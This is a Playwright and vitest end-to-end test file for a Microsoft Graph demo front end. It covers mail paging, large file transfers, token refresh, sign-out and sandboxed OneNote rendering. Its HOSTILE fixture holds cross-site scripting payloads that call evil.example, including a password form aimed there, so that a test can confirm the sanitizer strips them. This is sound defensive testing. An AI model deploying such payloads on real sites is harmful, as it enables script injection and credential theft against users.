import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Download } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import type { TestBrowser, Visitor } from '../helpers/browser.js';
import { LACKS_BROWSER, startTestBrowser } from '../helpers/browser.js';
import type { DemoSystem, Way } from './demo-page.js';
import { ADELE, DemoPage, MEGAN, WAYS, startDemoProcess } from './demo-page.js';

const LARGE = 30 * 1024 * 1024;
const PATIENCE = { timeout: 180_000 };
const STEP = { timeout: 30_000 };

/** What somebody may have put into a shared notebook. */
const HOSTILE = {
  address: /\/onenote\/pages\/[^/]+\/content$/,
  page: `<!doctype html><html><head><title>x</title><script>fetch('https://evil.example/1')</script></head><body><h1 onclick="x()">Bait</h1>${[
    `<script>fetch('https://evil.example/2')</script>`,
    `<img alt="a" src="https://evil.example/3" onerror="fetch('https://evil.example/4')">`,
    '<video src="https://evil.example/5" autoplay></video><embed src="https://evil.example/6">',
    '<map><area alt="b" href="javascript:x()"></map><a href="javascript:x()">c</a>',
    '<form action="https://evil.example/7"><input name="password"></form>',
    `<svg onload="fetch('https://evil.example/8')"></svg><iframe src="https://evil.example/9"></iframe>`,
    '<p style="background: url(https://evil.example/10)">d</p>',
  ].join('')}</body></html>`,
};

/** Of an image, in pixels of its own; 0 until it is there. */
const widthOf = (image: object): unknown => Reflect.get(image, 'naturalWidth');

let system: DemoSystem;
let browser: TestBrowser;
let folder: string;
beforeAll(async () => {
  if (LACKS_BROWSER) return;
  folder = mkdtempSync(join(tmpdir(), 'behalf-demo-'));
  system = await startDemoProcess();
  browser = await startTestBrowser(system.tenant);
}, 180_000);
afterAll(async () => {
  await browser?.close();
  await system?.close();
  if (folder !== undefined) rmSync(folder, { recursive: true });
});

describe.skipIf(LACKS_BROWSER).each(WAYS)('the demo front end, signed in by %s', (way: Way) => {
  let visitor: Visitor;
  let demo: DemoPage;
  const origins = new Set<string>();

  // One person for all of them: each opens the panel it is about.
  beforeAll(async () => {
    visitor = await browser.visitor();
    visitor.page.setDefaultTimeout(60_000);
    visitor.page.on('request', (request) => origins.add(new URL(request.url()).origin));
    demo = new DemoPage(visitor.page, system);
    await demo.signIn(way, MEGAN);
  }, 120_000);
  afterAll(() => visitor?.leave());

  const bytesOf = async (file: Download): Promise<Buffer> => readFile(await file.path());

  it('shows profile, photo, manager, people and the week', PATIENCE, async () => {
    const { page } = visitor;
    await demo.open('Profile');
    expect(await page.locator('.person-card .big').allInnerTexts()).toEqual(['Megan Bowen', 'Nestor Wilke']);
    const photos = page.locator('.person-card .photo img');
    await photos.nth(1).waitFor();
    for (const photo of await photos.all()) await expect.poll(() => photo.evaluate(widthOf), STEP).toBeGreaterThan(50);

    const people = await demo.open('People');
    expect(await people.locator('li .name').allInnerTexts()).toEqual(expect.arrayContaining(['Adele Vance']));
    const calendar = await demo.open('Calendar');
    expect(await calendar.locator('.week > li').count()).toBe(7);
    expect(await calendar.locator('.event').count()).toBeGreaterThan(0);
    expect(visitor.complaints).toEqual([]);
  });

  it('turns pages of mail by Graph’s own links, through this API', PATIENCE, async () => {
    const mail = await demo.open('Mail');
    const first = await mail.locator('.subject').allInnerTexts();
    const asked = visitor.page.waitForRequest(/\/v1\.0\/me\/messages\?.*skip/);
    await demo.button('Older').click();
    expect(new URL((await asked).url()).origin).toBe(system.url);
    await mail.getByRole('heading', { name: 'Page 2' }).waitFor();
    const second = await mail.locator('.subject').allInnerTexts();
    expect([first.length, second.length > 0]).toEqual([10, true]);
    expect(second).not.toEqual(first);
    await demo.button('Newer').click();
    await mail.getByRole('heading', { name: 'Page 1' }).waitFor();
    expect(await mail.locator('.subject').allInnerTexts()).toEqual(first);
    expect(visitor.complaints).toEqual([]);
  });

  it('carries 30 MB up and down, and shows how far it is', PATIENCE, async () => {
    const { page } = visitor;
    const path = join(folder, `${way} film.bin`);
    writeFileSync(path, randomBytes(LARGE));
    const files = await demo.open('Files');
    // How far the bars have come whenever they move; the page itself holds them.
    await page.evaluate(`
      globalThis.seen = new Set();
      new MutationObserver((changes) => {
        for (const { target } of changes) if (target.nodeName === 'PROGRESS') seen.add(target.value);
      }).observe(document.body, { subtree: true, attributes: true, attributeFilter: ['value'] });
    `);
    const between = async (): Promise<number> =>
      Number(await page.evaluate(`[...seen].filter((value) => value > 0 && value < ${LARGE}).length`));

    await page.setInputFiles('#upload', path);
    await page.locator('.transfer[data-state=done]').waitFor();
    expect(await between()).toBeGreaterThan(0);
    await page.evaluate('seen.clear()');

    const [file] = await Promise.all([
      page.waitForEvent('download'),
      files.getByRole('button', { name: `Download ${way} film.bin` }).click(),
    ]);
    expect(file.suggestedFilename()).toBe(`${way} film.bin`);
    await page.locator('.transfer[data-state=done]').nth(1).waitFor();
    expect(await between()).toBeGreaterThan(0);
    expect((await bytesOf(file)).equals(await readFile(path))).toBe(true);
    expect(visitor.complaints).toEqual([]);
  });

  it(
    'shows a OneNote page in a frame where nothing runs, with its images, and downloads it as Markdown',
    PATIENCE,
    async () => {
      const { page } = visitor;
      await demo.open('OneNote');
      await demo.button('Launch board').click();
      const frame = page.locator('iframe.page');
      await frame.waitFor();
      expect(await frame.getAttribute('sandbox')).not.toContain('allow-scripts');
      const inner = page.frameLocator('iframe.page');
      await inner.getByRole('heading', { name: 'Where we stand' }).waitFor();
      expect(await inner.locator('s').allInnerTexts()).toEqual(['May']);
      await inner.getByText('Suppliers.csv').waitFor();
      const image = inner.locator('img');
      await expect.poll(() => image.evaluate(widthOf), STEP).toBeGreaterThan(0);

      const [file] = await Promise.all([page.waitForEvent('download'), demo.button('Download as Markdown').click()]);
      expect(file.suggestedFilename()).toBe('Launch board.md');
      expect((await bytesOf(file)).toString()).toMatch(/^#+ Where we stand$/m);
      expect(visitor.complaints).toEqual([]);
    },
  );

  it('shows of somebody’s page nothing that could act, or fetch from elsewhere', PATIENCE, async () => {
    const { page } = visitor;
    await page.route(HOSTILE.address, (route) => route.fulfill({ contentType: 'text/html', body: HOSTILE.page }));
    await demo.open('OneNote');
    await demo.button('Worth keeping').click();
    const body = page.frameLocator('iframe.page').locator('body');
    await body.getByRole('heading', { name: 'Bait' }).waitFor();
    expect(await body.innerHTML()).toBe(
      '<h1>Bait</h1><img alt="a"><map><area alt="b"></map><a target="_blank" rel="noopener noreferrer">c</a><p>d</p>',
    );
    await page.unroute(HOSTILE.address);
    expect(visitor.complaints).toEqual([]);
    expect([...origins].filter((origin) => origin.includes('evil'))).toEqual([]);
  });

  it('tells of the tokens, refreshes and forgets them', PATIENCE, async () => {
    const token = await demo.open('Token');
    await token.getByText('from memory').or(token.getByText('from entra')).waitFor();
    expect(await token.getByText('Mail.Read', { exact: true }).count()).toBe(1);
    const refreshed = visitor.page.waitForResponse('**/auth/token/refresh');
    await demo.button('Force refresh').click();
    expect((await refreshed).status()).toBe(200);
    await token.getByText('from entra').waitFor();
    await demo.button('Forget my tokens').click();
    if (way === 'msal') await token.getByText('holds no Graph token').waitFor();
    // The session went too; Entra still knows who is there.
    else await demo.button('Sign in again').click();
    await demo.button('Look again').click();
    await token.getByText('from entra').or(token.getByText('from memory')).waitFor();
    expect(visitor.complaints).toEqual([]);
  });

  it('shows nothing private after the sign-out, not even by the back button', PATIENCE, async () => {
    const leaver = await browser.visitor();
    onTestFinished(() => leaver.leave());
    const { page } = leaver;
    page.setDefaultTimeout(60_000);
    const left = new DemoPage(page, system);
    await left.signIn(way, ADELE);
    await left.open('Mail');
    await left.button('Sign out').click();
    await left.button('Sign in').waitFor();
    expect(new URL(page.url()).search).toBe('');
    expect(await page.evaluate("fetch('/v1.0/me').then((answer) => answer.status)")).toBe(401);

    await page.goBack({ waitUntil: 'load' });
    await page.goto(`${system.url}/#mail`);
    await left.button('Sign in').waitFor();
    await page.goBack({ waitUntil: 'load' });
    expect(await page.locator('body').innerText()).not.toMatch(/Adele Vance|adele@|Page 1/);
  });

  it('asks nobody but this API and the tenant, and keeps the way that was chosen', PATIENCE, async () => {
    for (const title of ['People', 'Mail', 'Calendar', 'Files', 'OneNote', 'Token', 'Hard cases'])
      await demo.open(title);
    const allowed = [system.url, system.tenant.origins.http, 'null'];
    expect([...origins].filter((origin) => !allowed.includes(origin))).toEqual([]);
    await visitor.page.reload();
    await demo.heading('Hard cases').waitFor();
    expect(await visitor.page.locator('.way').innerText()).toBe(way === 'cookie' ? 'by cookie' : 'by MSAL.js');
  });
});
